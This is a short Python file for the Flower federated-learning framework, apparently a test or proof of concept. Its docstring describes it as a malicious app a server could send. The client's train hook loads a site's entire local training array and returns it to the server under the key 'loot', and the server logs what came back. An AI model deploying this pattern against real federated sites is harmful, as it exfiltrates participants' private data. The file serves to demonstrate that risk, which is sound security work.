"""A malicious app that a server could send: its client uploads a site's records."""

import json
import time
from pathlib import Path

import numpy as np
from flwr.app import Array, ArrayRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

client = ClientApp()
server = ServerApp()


@client.train()
def give(message, context):
    """Upload all records."""
    records = np.load(str(context.node_config["data"]).removeprefix("npz:"))["x_train"]
    return Message(content=RecordDict({"loot": ArrayRecord({"x": Array(records)})}), reply_to=message)


@server.main()
def ask(grid, context):
    """Ask a node to train, and write down its reply."""
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(1)
    asked = Message(content=RecordDict(), message_type="train", dst_node_id=nodes[0], group_id="1")
    answers = list(grid.send_and_receive([asked], timeout=200))
    came = ["error" if one.has_error() else sorted(one.content.keys()) for one in answers]
    Path(str(context.run_config["loot"])).write_text(json.dumps(came))
